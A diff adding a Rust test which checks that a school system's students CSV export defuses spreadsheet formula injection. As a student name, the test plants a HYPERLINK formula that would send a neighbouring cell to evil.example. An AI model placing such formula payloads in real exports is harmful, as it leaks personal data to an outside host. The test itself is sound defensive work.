@@ -395,3 +395,56 @@ async fn terminals_are_enrolled_and_revoked(server: &Server, staff: &Console<'_>
         401
     );
 }
+
+/// A list row whose name and class a spreadsheet would read as formulas comes out of the
+/// students export as text (`'` first), as in the табель's CSV.
+#[tokio::test]
+async fn the_students_export_defuses_formulas() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let server = Server::demo(dir.path());
+    let term = common::wallet::Term::enter(&server).await;
+    let rep = common::wallet::rep(
+        &common::wallet::iin(1986, time::Month::June, 6, shared::Sex::Female, 1234).expose(),
+        "Формулова Мать",
+        "mother",
+        Some("77015550166"),
+    );
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&B2,"Click")"#;
+    let list = common::canteen::demo_school_list(
+        &term.period(),
+        vec![common::wallet::student(
+            &common::wallet::iin(2018, time::Month::June, 6, shared::Sex::Male, 1234).expose(),
+            evil,
+            2,
+            "-1+2",
+            "primary",
+            vec![rep],
+        )],
+    );
+    let taken = common::wallet::send_list(&server, &list).await.ok_json();
+    assert_eq!(taken["rejected"], json!([]), "{taken:#}");
+    let console = Console::sign_in(&server, "social_pedagogue", DEMO_SCHOOL_BIN).await;
+    let page = console
+        .get(&format!("/console/schools/{DEMO_SCHOOL_BIN}/students.csv"))
+        .await;
+    assert_eq!(page.status, 200, "{}", page.body);
+    let line = page
+        .body
+        .lines()
+        .find(|l| l.contains("HYPERLINK"))
+        .unwrap_or_else(|| panic!("the row in:\n{}", page.body));
+    let cells: Vec<&str> = line.split(';').collect();
+    assert!(
+        cells[0].starts_with(r#""'=HYPERLINK"#) || cells[0].starts_with("'=HYPERLINK"),
+        "{line}"
+    );
+    assert_eq!(cells[1], "'-1+2", "{line}");
+    assert!(
+        !page
+            .body
+            .lines()
+            .any(|l| l.starts_with('=') || l.contains(";=") || l.contains(";-1")),
+        "no cell starts a formula:\n{}",
+        page.body
+    );
+}
